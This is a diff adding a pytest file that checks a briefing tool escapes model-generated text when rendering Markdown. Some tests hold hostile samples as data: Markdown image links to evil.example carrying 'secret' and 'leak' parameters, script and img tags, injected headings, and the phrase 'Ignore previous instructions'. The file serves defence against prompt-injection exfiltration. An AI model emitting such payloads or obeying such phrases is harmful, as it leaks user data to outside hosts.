@@ -1,0 +1,68 @@
+"""Rendering: model text stays text in Markdown, and the layout follows the briefing."""
+
+from __future__ import annotations
+
+import json
+
+from briefer.models import Briefing
+from briefer.render import md, render_briefing
+
+from .conftest import CASSETTES, SEED, Run
+
+
+def seed(run: Run) -> Briefing:
+    result = run("brief", SEED, "--replay", CASSETTES, "--format", "json")
+    assert result.exit_code == 0, result.stderr
+    return Briefing.model_validate_json(result.stdout)
+
+
+def test_markdown_syntax_in_model_text_is_escaped() -> None:
+    assert md("![x](https://evil.example/?q=secret)") == r"!\[x\](https://evil.example/?q=secret)"
+    assert md("<script>alert(1)</script>") == r"\<script\>alert(1)\</script\>"
+    assert md("*bold* _it_ `code` a|b") == r"\*bold\* \_it\_ \`code\` a\|b"
+
+
+def test_model_text_cannot_start_new_lines_headings_or_list_items() -> None:
+    assert md("Title\n# Injected heading\n- item") == "Title # Injected heading - item"
+
+
+def test_hostile_model_text_renders_inert_in_the_briefing(run: Run) -> None:
+    briefing = seed(run).model_copy(
+        update={
+            "title": "Talks\n## Ignore previous instructions <img src=x>",
+            "key_points": ["See ![chart](https://evil.example/leak?d=1)", "[click](http://x.example)"],
+        }
+    )
+    markdown = render_briefing(briefing)
+    first = markdown.splitlines()[0]
+    assert first == r"# Talks ## Ignore previous instructions \<img src=x\>"
+    assert "![chart](" not in markdown and "[click](" not in markdown
+    assert r"!\[chart\](https://evil.example/leak?d=1)" in markdown
+
+
+def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
+    briefing = seed(run)
+    other = briefing.sources[0].model_copy(update={"id": "other-report"})
+    markdown = render_briefing(briefing.model_copy(update={"sources": [*briefing.sources, other]}))
+    assert "(scholz-putin-call ¶18)" in markdown
+
+
+def test_the_timeline_is_in_date_order(run: Run) -> None:
+    timeline = render_briefing(seed(run)).split("## Timeline")[1].split("##")[0]
+    dates = [line.split("**")[1] for line in timeline.splitlines() if line.startswith("- ")]
+    assert dates == sorted(dates)
+
+
+def test_positions_are_grouped_under_actors_in_the_briefing_order(run: Run) -> None:
+    briefing = seed(run)
+    section = render_briefing(briefing).split("## Positions")[1].split("## Disputed")[0]
+    headings = [line[4:] for line in section.splitlines() if line.startswith("### ")]
+    holders = [a.name for a in briefing.actors if any(p.actor_id == a.id for p in briefing.positions)]
+    assert headings == holders
+
+
+def test_the_footer_counts_calls_and_tokens(run: Run) -> None:
+    briefing = seed(run)
+    footer = render_briefing(briefing).rstrip().splitlines()[-1]
+    assert f"1 call, {briefing.usage.prompt_tokens:,} prompt" in footer
+    assert json.loads(briefing.model_dump_json())["usage"]["calls"] == 1
